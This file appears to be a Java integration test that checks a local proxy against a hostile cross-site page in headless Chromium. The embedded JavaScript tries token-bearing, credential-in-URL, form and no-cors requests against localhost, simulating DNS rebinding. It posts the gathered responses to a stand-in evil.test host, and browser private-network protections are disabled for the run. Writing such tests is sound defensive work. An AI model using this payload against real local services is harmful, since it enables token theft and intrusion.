package dev.latchkey.it;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/**
 * A page of another site in a real browser, which knows everything but should be of no use: it is
 * even given the token of the run. Its name can be made to lead to this machine (DNS rebinding).
 */
@Timeout(180)
class ProxyInABrowserTest {

  private static final Path CHROMIUM = Path.of("/usr/bin/chromium");

  private final KeyedService service = KeyedService.start();
  private final CompletableFuture<String> report = new CompletableFuture<>();
  private Path directory = Path.of("");

  @BeforeEach
  void enter(@TempDir Path temporary) {
    boolean installed = Files.isExecutable(CHROMIUM);
    String missing = "Not tested in a browser: install the packages in .ci/packages";
    if ("true".equals(System.getenv("LATCHKEY_REQUIRE_PEERS"))) {
      assertThat(installed).as(missing).isTrue();
    }
    assumeTrue(installed, missing);
    directory = temporary;
  }

  @AfterEach
  void stop() {
    service.close();
  }

  private HttpServer evilSite(String page) throws IOException {
    HttpServer site =
        HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
    site.createContext(
        "/",
        exchange -> {
          if (exchange.getRequestMethod().equals("POST")) {
            report.complete(
                new String(exchange.getRequestBody().readAllBytes(), StandardCharsets.UTF_8));
          }
          send(exchange, exchange.getRequestURI().getPath().equals("/") ? page : "");
        });
    site.start();
    return site;
  }

  private static void send(HttpExchange exchange, String page) throws IOException {
    exchange.getResponseHeaders().set("Content-Type", "text/html; charset=utf-8");
    byte[] bytes = page.getBytes(StandardCharsets.UTF_8);
    exchange.sendResponseHeaders(200, bytes.length == 0 ? -1 : bytes.length);
    exchange.getResponseBody().write(bytes);
    exchange.close();
  }

  private static String page(String port, String token) {
    return """
        <!doctype html><title>evil</title><body><iframe name="frame"></iframe><script>
        const token = "TOKEN", ends = [];
        async function attempt(name, action) {
          try { ends.push(name + ": " + await action()); } catch (e) { ends.push(name + ": failed"); }
        }
        const read = (url, options) => async () => { const r = await fetch(url, options); return r.status + " " + await r.text(); };
        const loaded = (tag, url) => () => new Promise((resolve, reject) => {
          const element = document.createElement(tag);
          element.onload = () => resolve("loaded"); element.onerror = reject;
          element.src = url; document.body.append(element);
        });
        function form(url) {
          const form = document.createElement("form");
          form.method = "post"; form.enctype = "text/plain"; form.target = "frame"; form.action = url;
          document.body.append(form); form.submit();
          return new Promise(resolve => setTimeout(() => resolve("sent"), 1000));
        }
        (async () => {
          for (const host of ["127.0.0.1", "localhost", location.hostname]) {
            const url = "http://" + host + ":PORT/api/" + host + "/";
            const withToken = {headers: {Authorization: "Bearer " + token}};
            await attempt("read", read(url + "read", withToken));
            await attempt("plain", read(url + "plain"));
            await attempt("post", read(url + "post", {method: "POST", body: "x"}));
            await attempt("blind", async () => (await fetch(url + "blind", {method: "POST", mode: "no-cors", body: "x"})).status);
            await attempt("image", loaded("img", url + "image"));
            await attempt("script", loaded("script", url + "script"));
            await attempt("user", read("http://u:" + token + "@" + host + ":PORT/api/user"));
            await attempt("form", () => form(url + "form"));
          }
          await fetch("/report", {method: "POST", body: ends.join("\\n")});
        })();
        </script>
        """
        .replace("PORT", port)
        .replace("TOKEN", token);
  }

  @Test
  void isOfNoUseToAPageOfAnotherSite() throws Exception {
    Cli cli = Cli.below(directory, service.environment());
    try (TerminalSession proxy = cli.terminal("proxy")) {
      String port =
          proxy.await("LATCHKEY_BASE_URL='http://127.0.0.1:").line().replaceAll("/.*", "");
      String token = proxy.await("LATCHKEY_TOKEN='").line().replace("'", "");
      proxy.await("Stop it");
      HttpServer site = evilSite(page(port, token));
      Process browser = browse("http://evil.test:" + site.getAddress().getPort() + "/");
      try {
        String ends = report.get(120, TimeUnit.SECONDS);
        assertThat(ends.lines()).as(ends).hasSize(24);
        assertThat(ends).doesNotContain("welcome", "loaded");
        assertThat(service.asked()).isEmpty();
        proxy.await("421 refused").await("421 refused");
      } finally {
        browser.descendants().forEach(ProcessHandle::destroyForcibly);
        browser.destroyForcibly().waitFor();
        site.stop(0);
      }
      proxy.interrupt();
      Processes.Result ended = proxy.end("Ctrl-C");
      assertThat(ended.exitCode()).isEqualTo(130);
      assertThat(ended.out()).contains(" 403 refused").doesNotContain("canary");
    }
  }

  private Process browse(String url) {
    return Processes.below(directory)
        .start(
            List.of(
                CHROMIUM.toString(),
                "--headless=new",
                "--no-sandbox",
                "--disable-dev-shm-usage",
                "--disable-gpu",
                // Whose DNS the evil site owns.
                "--host-resolver-rules=MAP evil.test 127.0.0.1",
                // What a browser may come to allow, and others do: this is to be no defence here.
                "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests,"
                    + "PrivateNetworkAccessSendPreflights",
                "--user-data-dir=" + directory.resolve("browser"),
                url),
            Map.of());
  }
}
